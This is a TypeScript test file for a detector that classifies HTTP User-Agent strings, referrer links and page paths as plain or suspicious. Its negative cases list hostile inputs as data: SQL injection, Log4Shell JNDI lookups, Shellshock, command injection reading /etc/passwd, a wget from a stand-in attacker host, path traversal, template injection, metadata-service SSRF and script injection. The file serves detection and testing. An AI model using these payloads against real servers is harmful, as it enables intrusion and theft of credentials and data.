import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  isPlainAgent,
  isPlainPath,
  linkWeight,
} from '../../../../src/detectors/content/verdict/clientWords.ts';

describe('what a program says of itself', () => {
  it.each([
    'Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko',
    'Mozilla/5.0 (Linux; U; Android 4.1.2; en-us; HW-HUAWEI_Y320-C00/Y320-C00V100R001C92B611; 480*800; CTC/2.0) AppleWebKit/534.30(KHTML,like Gecko) Version/4.0 Mobile Safari/534.30',
    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    'curl/8.5.0',
    'W3C_Validator/1.3 http://validator.w3.org/services',
    'Own-Feed-Reader/2.0 +https://reader.example/about.html',
    'Opera/9.80 (Windows NT 6.1; WOW64; U; ru) Presto/2.10.289 Version/12.01',
  ])('is plain: %s', (agent) => {
    expect(isPlainAgent(agent)).toBe(true);
  });

  it.each([
    "Mozilla/5.0' OR '1'='1",
    'Mozilla/5.0 ${jndi:ldap://x/a}',
    '() { :;}; /bin/bash -c id',
    'Mozilla/5.0 (X11); cat /etc/passwd',
    'Mozilla/5.0 (X11; cat /etc/passwd)',
    'Mozilla/5.0 (X11; wget evil.example/x.sh)',
    'Mozilla/5.0 ../../../../etc/passwd',
    'Mozilla/5.0 (X11) | id',
    'Mozilla/5.0 {{7*7}}',
    'Mozilla/5.0 http://169.254.169.254/latest/meta-data',
    'Mozilla/5.0 http://localhost/admin',
    'Mozilla/5.0 https://evil.example/a?b=c',
    'Mozilla/5.0 https://one.example/ https://two.example/',
    'Mozilla/5.0 <script>alert(1)</script>',
    'Mozilla/5.0 (((deep)))',
    'Mozilla/5.0 (open',
    '/etc/passwd',
    '; id',
    '',
  ])('is not plain: %s', (agent) => {
    expect(isPlainAgent(agent)).toBe(false);
  });

  it('never holds what quotes, opens or substitutes', () => {
    fc.assert(
      fc.property(
        fc.string(),
        fc.constantFrom("'", '"', '`', '$', '<', '{', '|', '&', '=', '\\', '%', '#', '?', '\0', '\n'),
        fc.string(),
        (a, mark, b) => !isPlainAgent(`Mozilla/5.0 ${a}${mark}${b}`),
      ),
    );
    expect(isPlainAgent(`Mozilla/5.0 ${'('.repeat(600)}`)).toBe(false);
  });
});

describe('the page that a link was on', () => {
  it('needs more to look like an attack, if it is a page of a site', () => {
    expect(linkWeight('https://www.example.org/search?q=a;b', 6)).toBeLessThan(3);
    expect(linkWeight("' OR 1=1 --", 6)).toBe(6);
    expect(linkWeight('http://localhost/../etc/passwd', 6)).toBe(6);
  });
});

describe('the name of a page', () => {
  it.each(['/bin/Multiply-599704', '/node/1', '/de/blog/2024-01/what-is-new.html', '/a/'])(
    'is plain: %s',
    (path) => {
      expect(isPlainPath(path)).toBe(true);
    },
  );

  it.each([
    '/../a',
    '/a/..',
    '//a',
    '/.env',
    '/etc/passwd',
    '/bin/sh',
    '/a;id',
    '/a b',
    "/a'",
    '/%00',
    '',
    'a',
  ])('is not plain: %s', (path) => {
    expect(isPlainPath(path)).toBe(false);
  });
});
